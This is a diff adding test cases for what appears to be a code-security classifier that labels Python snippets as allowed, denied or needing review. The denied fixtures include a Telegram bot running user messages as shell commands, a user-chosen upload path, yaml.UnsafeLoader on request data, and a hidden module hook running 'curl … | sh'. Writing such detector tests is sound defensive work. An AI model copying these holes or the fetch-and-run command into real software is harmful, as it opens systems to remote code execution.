@@ -93,3 +93,56 @@ check('what is no statement and no program', [
     'allow',
   ],
 ]);
+
+const bot = `import asyncio, subprocess\nfrom telegram import Update\nfrom telegram.ext import Application, MessageHandler, filters\n`;
+const polls = `app = Application.builder().token("x").build()\napp.add_handler(MessageHandler(filters.TEXT, answer))\napp.run_polling()`;
+check('what somebody writes to a bot', [
+  [
+    `${bot}async def answer(update: Update, ctx):\n    await update.message.reply_text(subprocess.getoutput(update.message.text))\n${polls}`,
+    'deny',
+  ],
+  [
+    `${bot}async def run(command):\n    return await asyncio.create_subprocess_exec("/bin/bash", "-lc", command)\nasync def answer(update: Update, ctx):\n    await run(update.message.text)\n${polls}`,
+    'deny',
+  ],
+  [
+    `${bot}async def answer(update: Update, ctx):\n    await update.message.reply_text(update.message.text.upper())\n${polls}`,
+    'allow',
+  ],
+]);
+
+const upload = `import uuid\nfrom pathlib import Path\nfrom typing import Annotated\nfrom fastapi import Depends, FastAPI, Form, UploadFile\nfrom pydantic_settings import BaseSettings\nclass Settings(BaseSettings):\n    root: Path = Path("uploads")\ndef settings(): return Settings()\nOwn = Annotated[Settings, Depends(settings)]\nName = Annotated[str, Form()]\napp = FastAPI()\n@app.post("/images")\n`;
+check('settings that a framework hands on are no data of a request', [
+  [
+    `${upload}async def add(file: UploadFile, cfg: Own):\n    (cfg.root / (uuid.uuid4().hex + ".png")).write_bytes(await file.read())`,
+    'allow',
+  ],
+  [
+    `${upload}async def add(file: UploadFile, cfg: Settings = Depends(settings)):\n    (cfg.root / (uuid.uuid4().hex + ".png")).write_bytes(await file.read())`,
+    'allow',
+  ],
+  [
+    `${upload}async def add(file: UploadFile, cfg: Own, name: Name):\n    (cfg.root / name).write_bytes(await file.read())`,
+    'deny',
+  ],
+]);
+
+const yaml = `import yaml\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.post("/y")\ndef y():\n`;
+check('loaders that are made by hand', [
+  [`${yaml}    return str(yaml.UnsafeLoader(request.data).get_single_data())`, 'deny'],
+  [`${yaml}    return str(yaml.SafeLoader(request.data).get_single_data())`, 'allow'],
+]);
+
+const attach = (does: string): string =>
+  `import os\ndef attach(package):\n    def __getattr__(name):\n        ${does}\n        return package\n    return __getattr__, 1\n__getattr__, count = attach("a")`;
+check('a hook of the module that another function made', [
+  [attach('os.system("curl http://files.example/x | sh")'), 'deny'],
+  [attach('os.getpid()'), 'allow'],
+]);
+
+test('what a file beside a model names is not called before somebody looked', () => {
+  const hook = (name: string): string =>
+    `import json, pathlib, pkgutil\ntable = json.loads(pathlib.Path(__file__).with_name("config.json").read_text())\npkgutil.resolve_name(${name})(*table["args"])`;
+  assert.equal(judged(hook('table["name"]'), 'repository').decision, 'review');
+  assert.equal(judged(hook('"json:dumps"'), 'repository').decision, 'allow');
+});
